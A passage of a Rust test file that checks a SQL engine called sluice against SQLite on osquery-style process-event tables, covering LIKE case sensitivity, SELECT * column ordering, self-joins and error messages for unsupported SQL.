    let mut nonempty = 0;
    for sql in QUERIES {
        if same(&f, sql).await > 0 {
            nonempty += 1;
        }
    }
    // A query that matches nothing on both engines proves little.
    assert!(QUERIES.len() >= 40);
    assert_eq!(nonempty, QUERIES.len(), "every query finds rows");
}

#[tokio::test]
async fn case_sensitive_like_is_a_switch() {
    let f = fixture();
    let sql = "SELECT pid FROM es_process_events WHERE path LIKE '%/curl' ORDER BY pid";
    // /usr/bin/curl's exec and exit, and /usr/bin/CURL.
    assert_eq!(sluice_rows(&f.ctx, sql).await.len(), 3);
    f.sqlite
        .execute_batch("PRAGMA case_sensitive_like = ON")
        .expect("pragma");
    sluice::query::plan(&f.ctx, "PRAGMA case_sensitive_like = ON")
        .await
        .expect("pragma");
    same(&f, sql).await;
    assert_eq!(sluice_rows(&f.ctx, sql).await.len(), 2);
    same(
        &f,
        "SELECT pid FROM es_process_events WHERE NOT path LIKE '%/CURL'",
    )
    .await;
}

#[tokio::test]
async fn select_star_is_osquerys_columns_in_osquerys_order() {
    let f = fixture();
    for name in [
        "es_process_events",
        "es_process_file_events",
        "process_events",
    ] {
        let def = sluice_schemas::table(name).expect("table");
        let visible: Vec<&str> = def
            .columns
            .iter()
            .filter(|c| {
                matches!(
                    c.origin,
                    ColumnOrigin::Osquery | ColumnOrigin::OsqueryAdditional
                )
            })
            .map(|c| c.name)
            .collect();
        // Column names.
        let plans = sluice::query::plan(&f.ctx, &format!("SELECT * FROM {name}"))
            .await
            .expect("plan");
        let names: Vec<String> = plans[0]
            .schema()
            .fields()
            .iter()
            .map(|f| f.name().clone())
            .collect();
        assert_eq!(names, visible, "{name}");
        assert!(!names.iter().any(|n| n == "eid" || n == "time_ns"));
        // Values: sluice's `*` is SQLite's explicit list of visible columns.
        let expected = sqlite_rows(
            &f.sqlite,
            &format!("SELECT {} FROM {name} ORDER BY time", visible.join(", ")),
        );
        let actual = sluice_rows(&f.ctx, &format!("SELECT * FROM {name} ORDER BY time")).await;
        assert_eq!(actual.len(), expected.len());
        let mut expected = expected;
        let mut actual = actual;
        sort_rows(&mut expected);
        sort_rows(&mut actual);
        assert_eq!(actual, expected, "{name}");
    }
    // Qualified stars in a self-join expand per table; sluice's own columns
    // stay selectable by name.
    let rows = sluice_rows(
        &f.ctx,
        "SELECT c.*, p.path, c.time_ns FROM es_process_events c JOIN es_process_events p ON p.pid = c.parent AND p.event_type = 'exec' WHERE c.pid = 220 AND c.event_type = 'exec'",
    )
    .await;
    assert_eq!(rows.len(), 1);
    let def = sluice_schemas::table("es_process_events").expect("table");
    let visible = def
        .columns
        .iter()
        .filter(|c| {
            matches!(
                c.origin,
                ColumnOrigin::Osquery | ColumnOrigin::OsqueryAdditional
            )
        })
        .count();
    assert_eq!(rows[0].len(), visible + 2);
    assert_eq!(rows[0][visible], Out::Text("/bin/sh".into()));
}

#[tokio::test]
async fn unsupported_sql_names_the_construct() {
    let f = fixture();
    for (sql, construct) in [
        (
            "SELECT pid FROM es_process_events WHERE path MATCH 'x'",
            "MATCH",
        ),
        ("PRAGMA journal_mode = WAL", "PRAGMA journal_mode"),
        ("SELECT glob('*.sh', path) FROM es_process_events", "GLOB"),
    ] {
        let err = sluice::query::plan(&f.ctx, sql)
            .await
            .expect_err(sql)
            .to_string();
        assert!(err.contains(construct), "{sql}: {err}");
        assert!(!err.contains('\n'), "one line: {err}");
    }
}
